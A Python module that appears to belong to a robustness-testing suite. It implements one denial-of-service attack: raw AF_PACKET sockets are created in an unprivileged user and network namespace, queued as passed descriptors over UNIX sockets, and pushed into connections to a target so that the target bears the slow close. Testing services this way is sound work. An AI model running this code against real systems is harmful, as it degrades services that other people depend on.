# SPDX-License-Identifier: Apache-2.0 OR BSD-3-Clause
"""Attacks by what is queued on a socket and never received: descriptors whose
last close takes long, for the process that closes them."""

import array
import ctypes
import os
import socket

from attack import attack

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
FDS_IN_A_MESSAGE = 250                  # SCM_MAX_FD is 253
libc = ctypes.CDLL(None, use_errno=True)


def queue(sock, fds):
    """Send these descriptors, and do not wait for anybody to take them.

    Returns how many the kernel took: on a socket that waits for its turn it
    takes none where the receiver has said so (SO_PASSRIGHTS).
    """
    sent = 0
    for first in range(0, len(fds), FDS_IN_A_MESSAGE):
        some = array.array("i", fds[first:first + FDS_IN_A_MESSAGE])
        try:
            sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, some)],
                         socket.MSG_DONTWAIT)
        except OSError:
            break
        sent += len(some)
    return sent


def enter_a_network(target):
    """Be root in a user and a network namespace of one's own, as any user can."""
    if target.kept:
        return
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
        raise RuntimeError("unshare: no user and network namespace: "
                           + os.strerror(ctypes.get_errno()))
    target.kept.append("a network")


def parcel(count):
    """A socket in whose queue lie so many AF_PACKET sockets, which nobody else has.

    Each close of one waits until no CPU looks at it.  Whoever closes this socket
    last closes them: once it is sent away, that is not the sender.
    """
    theirs, ours = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    fds = [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).detach()
           for _ in range(count)]
    sent = queue(ours, fds)
    for fd in fds:
        os.close(fd)
    if sent != count:
        raise RuntimeError(f"{sent} of {count} descriptors can be queued in a pair")
    return theirs


@attack
def queued_packet_sockets(target):
    """AF_PACKET sockets on the way in connections that are closed at once."""
    enter_a_network(target)
    for _ in range(4):
        whole = parcel(50)
        with target.connect() as sock:
            queue(sock, [whole.fileno()])
            whole.close()
